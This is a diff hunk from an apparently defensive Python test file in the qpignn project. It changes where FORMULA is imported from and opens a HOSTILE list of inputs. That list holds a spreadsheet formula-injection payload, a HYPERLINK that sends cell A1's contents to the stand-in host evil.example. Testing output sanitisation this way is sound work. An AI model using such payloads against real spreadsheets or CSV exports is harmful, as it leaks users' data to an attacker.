@@ -10,10 +10,10 @@ from typing import Any
 import numpy as np
 import pandas as pd
 import pytest
-from qpignn.cli.model import FORMULA
 
 from qpignn import Intervals
 from qpignn.cli.output import printable
+from qpignn.cli.predict import FORMULA
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
